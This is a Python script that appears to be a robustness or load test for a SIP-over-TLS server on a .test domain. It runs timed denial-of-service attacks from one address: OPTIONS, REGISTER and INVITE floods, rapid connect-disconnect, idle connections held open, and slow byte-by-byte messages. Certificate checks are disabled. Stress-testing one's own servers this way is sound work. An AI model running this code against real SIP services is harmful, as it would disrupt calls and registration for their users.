# SPDX-License-Identifier: BSD-3-Clause
"""Somebody without a password who does what he can: idle connections, connections that come and go,
messages that never end, and floods of OPTIONS, REGISTER and INVITE, all from one address.

usage: sip_attack.py SERVER SOURCE SECONDS
"""
import os
import socket
import ssl
import sys
import threading
import time

SERVER, SOURCE, SECONDS = sys.argv[1], sys.argv[2], float(sys.argv[3])
END = time.monotonic() + SECONDS
CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
done = {}


def connect():
    sock = socket.create_connection((SERVER, 5061), timeout=2, source_address=(SOURCE, 0))
    return CONTEXT.wrap_socket(sock)


def request(method):
    token = os.urandom(8).hex()
    return (f"{method} sip:bob@demo.sallyport.test SIP/2.0\r\nVia: SIP/2.0/TLS {SOURCE}:9;branch=z9hG4bK{token}\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:alice@demo.sallyport.test>;tag={token}\r\n"
            f"To: <sip:bob@demo.sallyport.test>\r\nCall-ID: {token}\r\nCSeq: 1 {method}\r\n"
            f"Contact: <sip:a@{SOURCE}>\r\nContent-Length: 0\r\n\r\n").encode()


def keep_doing(name, what):
    while time.monotonic() < END:
        try:
            what()
            done[name] = done.get(name, 0) + 1
        except OSError:
            time.sleep(0.01)


def flood(method):
    with connect() as sock:
        while time.monotonic() < END:
            sock.sendall(request(method) * 5)
            done[method] = done.get(method, 0) + 5
            sock.recv(65536)


def come_and_go():
    connect().close()


def idle():
    sock = connect()
    sock.settimeout(SECONDS)
    sock.recv(1)


def dribble():
    with connect() as sock:
        for byte in request("OPTIONS"):
            sock.sendall(bytes([byte]))
            time.sleep(0.05)


threads = [threading.Thread(target=keep_doing, args=(name, what)) for name, what, times in (
    ("OPTIONS", lambda: flood("OPTIONS"), 2), ("REGISTER", lambda: flood("REGISTER"), 2),
    ("INVITE", lambda: flood("INVITE"), 2), ("connections", come_and_go, 2), ("idle", idle, 20),
    ("dribble", dribble, 5)) for _ in range(times)]
for thread in threads:
    thread.start()
print("attacking", flush=True)
for thread in threads:
    thread.join()
print(done, flush=True)
